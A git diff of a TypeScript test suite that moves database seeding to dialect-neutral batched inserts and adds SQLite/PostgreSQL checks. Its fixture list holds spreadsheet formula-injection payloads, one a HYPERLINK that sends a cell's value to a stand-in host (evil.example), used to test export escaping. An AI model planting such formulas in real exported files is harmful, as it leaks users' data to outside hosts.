@@ -3,7 +3,6 @@ import http from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
-import Database from 'better-sqlite3';
 import ExcelJS from 'exceljs';
 import type { AuditEntry, Page } from '@hamgam/shared';
 import { RunHistoryService } from '../../../src/history/run-history.service';
@@ -14,30 +13,33 @@ const MANY_RUNS = 20_000;
 const FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"open")', '+1+2', '-2+3', '@SUM(A1:A2)', '\t=1+2', '\r=1+2'];
 
 /** MANY_RUNS plain runs, then one run per formula-like reason started by 'mallory', with a negative duration. */
-function seed(databasePath: string): void {
-  const db = new Database(databasePath);
-  const insert =
-    db.prepare(`INSERT INTO data_syncs (source_id, trigger, triggered_by, reason, status, created_at, started_at, finished_at, duration_ms, fetched, error_kind, error_message)
-    VALUES ('faculty', 'manual', ?, ?, ?, ?, ?, ?, ?, 100, ?, ?)`);
-  db.transaction(() => {
-    for (let i = 0; i < MANY_RUNS; i++) {
-      const at = new Date(Date.parse('2026-01-01T00:00:00Z') + i * 60_000).toISOString();
-      const isFailed = i % 5 === 0;
-      insert.run(
-        'admin',
-        'nightly',
-        isFailed ? 'failed' : 'success',
-        at,
-        at,
-        at,
-        1000 + i,
-        isFailed ? 'upstream' : null,
-        isFailed ? `gateway answered 503 on page ${i}` : null,
-      );
-    }
-    for (const reason of FORMULAS) insert.run('mallory', reason, 'failed', '2026-12-01T00:00:00.000Z', null, null, -5, 'upstream', '=1+1');
-  })();
-  db.close();
+async function seed(t: TestApp): Promise<void> {
+  const rows: unknown[][] = [];
+  for (let i = 0; i < MANY_RUNS; i++) {
+    const at = new Date(Date.parse('2026-01-01T00:00:00Z') + i * 60_000).toISOString();
+    const isFailed = i % 5 === 0;
+    rows.push([
+      'admin',
+      'nightly',
+      isFailed ? 'failed' : 'success',
+      at,
+      at,
+      at,
+      1000 + i,
+      isFailed ? 'upstream' : null,
+      isFailed ? `gateway answered 503 on page ${i}` : null,
+    ]);
+  }
+  for (const reason of FORMULAS) rows.push(['mallory', reason, 'failed', '2026-12-01T00:00:00.000Z', null, null, -5, 'upstream', '=1+1']);
+  // Many rows a statement, in ids' order, on either database.
+  for (let start = 0; start < rows.length; start += 500) {
+    const chunk = rows.slice(start, start + 500);
+    await t.query(
+      `INSERT INTO data_syncs (source_id, trigger, triggered_by, reason, status, created_at, started_at, finished_at, duration_ms, fetched, error_kind, error_message)
+      VALUES ${chunk.map(() => `('faculty', 'manual', ?, ?, ?, ?, ?, ?, ?, 100, ?, ?)`).join(', ')}`,
+      chunk.flat(),
+    );
+  }
 }
 
 type Download = { status: number; bytes: number; isComplete: boolean };
@@ -77,7 +79,7 @@ describe('exports and input under attack', () => {
 
   beforeAll(async () => {
     t = await startTestApp({ env: { TRUST_PROXY: '1' } });
-    seed(t.config.databasePath);
+    await seed(t);
     auditor = await t.as('auditor');
     await t.app.listen(0, '127.0.0.1');
     port = (t.app.getHttpServer().address() as AddressInfo).port;
@@ -243,7 +245,10 @@ describe('exports and input under attack', () => {
     await auditor()
       .get(`/api/runs?q=${encodeURIComponent('کد ملی')}`)
       .expect(200);
-    await auditor().get('/api/sources/faculty/records?q=abc&page=2').expect(200);
+    // The records browser reads the SQLite file directly: on PostgreSQL it is not ported yet and says so.
+    await auditor()
+      .get('/api/sources/faculty/records?q=abc&page=2')
+      .expect(t.dialect === 'sqlite' ? 200 : 501);
   });
 
   it.each([
@@ -295,7 +300,10 @@ describe('the data folder and database files', () => {
     const t = await startTestApp({ dataDir });
     try {
       expect(mode(dataDir)).toBe(0o700);
-      for (const file of ['hamgam.sqlite', 'hamgam.sqlite-wal', 'hamgam.sqlite-shm']) expect([file, mode(join(dataDir, file))]).toEqual([file, 0o600]);
+      // On PostgreSQL the folder holds the key file alone; the file left there is not the app's database.
+      if (t.dialect === 'sqlite') {
+        for (const file of ['hamgam.sqlite', 'hamgam.sqlite-wal', 'hamgam.sqlite-shm']) expect([file, mode(join(dataDir, file))]).toEqual([file, 0o600]);
+      }
     } finally {
       await t.close();
     }
